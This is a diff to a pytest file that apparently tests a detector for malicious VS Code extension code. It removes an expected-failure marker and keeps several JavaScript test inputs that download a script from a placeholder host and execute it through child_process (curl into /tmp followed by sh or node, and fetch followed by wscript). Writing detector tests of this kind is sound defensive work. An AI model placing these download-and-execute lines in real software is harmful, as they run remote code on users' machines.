@@ -13,10 +13,6 @@ const cp = require("child_process"), vscode = require("vscode"), url = "https://
 """
 
 
-def fault(reason: str) -> pytest.MarkDecorator:
-    return pytest.mark.xfail(strict=True, reason=reason)
-
-
 @pytest.mark.parametrize(
     "source",
     [
@@ -48,10 +44,7 @@ def fault(reason: str) -> pytest.MarkDecorator:
             " fetch(url).then((r) => r.text()).then((t) => { save(f, t);"
             " cp.exec('wscript ' + f); });"
         ),
-        pytest.param(
-            "cp.execSync('curl -s -o /tmp/aaa https://a.invalid/s'); cp.exec('sh /tmp/aaa');",
-            marks=fault("/tmp is a directory for temporary files"),
-        ),
+        "cp.execSync('curl -s -o /tmp/aaa https://a.invalid/s'); cp.exec('sh /tmp/aaa');",
         "cp.execSync('curl -so /tmp/a.js https://a.invalid/s'); cp.spawn('node', ['/tmp/a.js']);",
         (
             "class I { constructor() { this.file = os.tmpdir() + '/a.exe'; }"
